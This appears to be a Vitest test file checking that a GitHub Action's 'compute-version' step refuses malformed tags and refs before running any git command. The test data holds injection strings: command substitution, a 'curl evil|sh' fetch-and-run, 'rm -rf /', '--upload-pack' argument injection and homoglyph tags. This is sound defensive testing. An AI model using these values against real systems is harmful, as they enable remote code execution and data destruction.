/**
 * A corpus of malformed tags and refs, each given to the bundled compute-version the way the
 * runner does. Every one is refused with one `::error::` naming the input, nothing is written to
 * GITHUB_OUTPUT, and a `git` on PATH that leaves a marker file proves no command ran at all.
 */
import { existsSync, rmSync, writeFileSync } from 'node:fs'
import path from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { runAction } from '../helpers/cli.ts'
import { TestRepo } from '../peers/repo.ts'
import { cleanupTempDirs, tempDir } from '../helpers/tmp.ts'

const marker = () => path.join(bin, 'MARKER')
let bin = ''
let repo: TestRepo

beforeAll(async () => {
  repo = await TestRepo.create()
  await repo.commit('feat: a')
  await repo.tag('v1.2.3')
  bin = tempDir('ra-bin-')
  // A git that records that it ran, then does nothing.
  writeFileSync(path.join(bin, 'git'), `#!/bin/sh\ntouch "${path.join(bin, 'MARKER')}"\nexit 0\n`, {
    mode: 0o755,
  })
})
afterAll(cleanupTempDirs)

/** Tags git's own check-ref-format accepts or that look almost right; every one must be refused. */
export const MALFORMED_TAGS: string[] = [
  'v1$(id)',
  'v1`id`',
  'v1;id',
  'v1|id',
  'v1&id',
  'v1&&curl${IFS}evil|sh',
  "v1'x",
  'v1"x',
  'v1>x',
  'v1<x',
  '-f',
  '-x',
  '--upload-pack=touch${IFS}MARKER',
  '-v1.2.3',
  'v1.2.3\u00ff',
  'v1.2.3\u202e',
  '\u04321.2.3', // Cyrillic в
  'v1.2.3\u00a0x',
  'v1.2.3\u200b',
  '\uff561.2.3', // fullwidth v
  'v\uff19.2.3', // fullwidth 9
  `v1.2.3-${'a'.repeat(5000)}`,
  'v01.2.3',
  'v1.02.3',
  'v1.2.3-01',
  'v1.2.3-',
  'v1.2.3+',
  'v1.2.3-rc..1',
  'v1.2',
  'v1.2.3.4',
  '1.2.3',
  'V1.2.3',
  'v1..2.3',
  '../v1.2.3',
  'v1.2.3/',
  'v1.2.3.lock',
  'v1.2.3@{0}',
  'v1.2.3~1',
  'v1.2.3^{}',
  'v1.2.3:refs/heads/x',
  'v1.2.3*',
  'v1.2.3?',
  'v1.2.3[',
  'v1.2.3\\x',
  'v1.2 .3',
  'v1.2.3\tx',
  'v1.2.3\nv1.2.4',
  'v1.2.3\u0007',
  'v99999999999999999999.0.0',
  'HEAD',
  '@',
  'refs/heads/main',
  '$(touch${IFS}MARKER2)',
]

/** Whole refs that are refused. */
const MALFORMED_REFS: string[] = [
  'refs/tags/v1.2.3;rm -rf /',
  'refs/tags/refs/tags/v1.2.3',
  'refs/tags/',
  'refs/heads/--upload-pack=touch',
  'refs/heads/a..b',
  'main',
  '--upload-pack=touch /tmp/x',
  'refs/remotes/origin/main',
]

function expectRefused(r: Awaited<ReturnType<typeof runAction>>, input: string): void {
  expect(r.code).toBe(1)
  const errors = r.stdout.split('\n').filter(line => line.startsWith('::error::'))
  expect(errors).toHaveLength(1)
  expect(errors[0]).toContain(`::error::Input '${input}': `)
  expect(r.outputFile).toBe('')
  expect(existsSync(marker())).toBe(false)
  expect(existsSync(path.join(repo.dir, 'MARKER2'))).toBe(false)
}

describe('malformed tags and refs are refused before any command runs', () => {
  it('has a corpus of at least 40 malformed tags', () => {
    expect(MALFORMED_TAGS.length + MALFORMED_REFS.length).toBeGreaterThanOrEqual(40)
  })

  it.each(MALFORMED_TAGS.map(t => [JSON.stringify(t).slice(0, 60), t]))(
    'ref refs/tags/%s',
    async (_, tag) => {
      const r = await runAction(
        'compute-version',
        { ref: `refs/tags/${tag}` },
        { cwd: repo.dir, env: { PATH: `${bin}:${process.env.PATH}` } },
      )
      expectRefused(r, 'ref')
    },
  )

  it.each(MALFORMED_REFS.map(ref => [ref]))('ref %s', async ref => {
    const r = await runAction(
      'compute-version',
      { ref },
      { cwd: repo.dir, env: { PATH: `${bin}:${process.env.PATH}` } },
    )
    expectRefused(r, 'ref')
  })

  it.each(MALFORMED_TAGS.slice(0, 20).map(t => [JSON.stringify(t).slice(0, 60), t]))(
    'from-tag %s',
    async (_, tag) => {
      const r = await runAction(
        'compute-version',
        { bump: 'promote', 'from-tag': tag, ref: 'refs/heads/main' },
        { cwd: repo.dir, env: { PATH: `${bin}:${process.env.PATH}` } },
      )
      expectRefused(r, 'from-tag')
    },
  )

  it.each([['v$(id)'], ['-v'], ['../'], ['v;'], ['\u0432']])('tag-prefix %j', async prefix => {
    const r = await runAction(
      'compute-version',
      { 'tag-prefix': prefix },
      { cwd: repo.dir, env: { PATH: `${bin}:${process.env.PATH}` } },
    )
    expectRefused(r, 'tag-prefix')
  })

  it.each([
    [{ bump: 'sideways' }, 'bump'],
    [{ 'prerelease-format': 'dots' }, 'prerelease-format'],
    [{ 'rc-bump': 'tiny' }, 'rc-bump'],
    [{ 'initial-version': '1.0' }, 'initial-version'],
    [{ 'initial-version': '1.0.0-rc.1' }, 'initial-version'],
    [{ 'prerelease-id': 'rc1' }, 'prerelease-id'],
    [{ 'require-signed-tag': 'yes' }, 'require-signed-tag'],
    [{ path: '../outside' }, 'path'],
    [{ 'allowed-signers': 'missing-file' }, 'allowed-signers'],
    [{ bump: 'tag', ref: 'refs/heads/main' }, 'ref'],
  ])('%j', async (inputs, input) => {
    const r = await runAction(
      'compute-version',
      { ref: 'refs/heads/main', ...inputs },
      { cwd: repo.dir, env: { PATH: `${bin}:${process.env.PATH}` } },
    )
    expectRefused(r, input)
  })

  it('takes any branch name git accepts, and no shell ever reads it', async () => {
    // Only tag positions are strict: `x$(touch${IFS}MARKER2)` is a branch name git accepts, and
    // it reaches git only as an element of an argument array.
    const r = await runAction(
      'compute-version',
      { ref: 'refs/heads/x$(touch${IFS}MARKER2)' },
      { cwd: repo.dir },
    )
    expect(r.stdout).not.toContain('::error::')
    expect(r.outputs.tag).toBe('v1.2.3')
    expect(existsSync(path.join(repo.dir, 'MARKER2'))).toBe(false)
  })

  it('runs git once the inputs are valid (the marker works)', async () => {
    const r = await runAction(
      'compute-version',
      { ref: 'refs/tags/v1.2.3' },
      { cwd: repo.dir, env: { PATH: `${bin}:${process.env.PATH}` } },
    )
    expect(existsSync(marker())).toBe(true)
    expect(r.code).toBe(1) // the fake git answers nothing
    rmSync(marker())
  })
})
